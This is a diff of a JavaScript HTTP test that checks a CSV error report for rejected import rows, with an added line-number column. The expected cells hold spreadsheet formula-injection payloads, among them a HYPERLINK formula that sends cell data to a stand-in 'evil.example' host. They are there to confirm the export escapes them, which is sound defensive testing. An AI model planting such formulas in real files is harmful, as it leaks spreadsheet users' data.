@@ -100,14 +100,14 @@ describe("An operator's settings over HTTP", () => {
       expect(res.headers.get('cache-control')).toBe('no-store');
       const csv = await res.text();
       const lines = csv.split('\n');
-      expect(lines[0]).toBe('row,reason');
+      expect(lines[0]).toBe('row,line,reason');
       expect(lines.at(-1)).toBe('');
       // A formula in the first message gets the `'` an export gives it; quotes are doubled inside a quoted cell (RFC 4180).
-      expect(lines[1]).toBe(`2,"'=HYPERLINK(""http://evil.example/?""&A1) is not a known field"`);
-      expect(lines[2]).toMatch(/^3,"not valid JSON: .*"$/);
-      expect(lines[3]).toBe(`4,'@SUM(A1:A9) is not a known field; +cmd is not a known field`);
-      expect(lines[4]).toBe('5,each line must be a JSON object (a record as a REST create takes it)');
-      expect(lines[5]).toBe(`6,'-2+3 is not a known field`);
+      expect(lines[1]).toBe(`2,2,"'=HYPERLINK(""http://evil.example/?""&A1) is not a known field"`);
+      expect(lines[2]).toMatch(/^3,3,"not valid JSON: .*"$/);
+      expect(lines[3]).toBe(`4,4,'@SUM(A1:A9) is not a known field; +cmd is not a known field`);
+      expect(lines[4]).toBe('5,5,each line must be a JSON object (a record as a REST create takes it)');
+      expect(lines[5]).toBe(`6,6,'-2+3 is not a known field`);
       expect(lines).toHaveLength(7);
 
       // The same rows as NDJSON, the default (and format=ndjson), with the messages as they are.
@@ -168,7 +168,7 @@ describe("An operator's settings over HTTP", () => {
         expect(res.headers.get('transfer-encoding')).toBe('chunked');
         const lines = (await res.text()).split('\n').slice(1, -1);
         expect(lines).toHaveLength(n);
-        expect(lines.every((line, i) => line === `${i + 1},each line must be a JSON object (a record as a REST create takes it)`)).toBe(
+        expect(lines.every((line, i) => line === `${i + 1},${i + 1},each line must be a JSON object (a record as a REST create takes it)`)).toBe(
           true,
         );
 
